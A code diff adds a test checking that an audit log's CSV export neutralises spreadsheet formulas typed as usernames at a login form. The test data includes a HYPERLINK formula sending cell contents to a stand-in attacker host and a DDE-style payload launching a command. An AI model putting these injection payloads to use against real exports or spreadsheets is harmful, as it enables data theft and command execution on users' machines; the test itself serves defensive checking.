@@ -125,3 +125,16 @@ async def test_two_writers_never_fork_the_chain(world: World) -> None:
         assert res.ok, res
     finally:
         await other_db.close()
+
+
+async def test_csv_export_neutralises_spreadsheet_formulas(world: World) -> None:
+    """A username tried at the login form lands in the audit as typed: the CSV must not run it."""
+    w = world
+    aud = await w.user("auditor3", Role.auditor)
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    for name in (formula, "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1"):
+        r = await w.client.post("/api/auth/token", data={"username": name, "password": "wrong"})
+        assert r.status_code == 401
+    r = await w.client.get("/api/audit/export.csv", headers=aud)
+    names = [row["username"] for row in csv.DictReader(io.StringIO(r.text)) if row["kind"] == "login_failed"]
+    assert names == ["'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-1"]
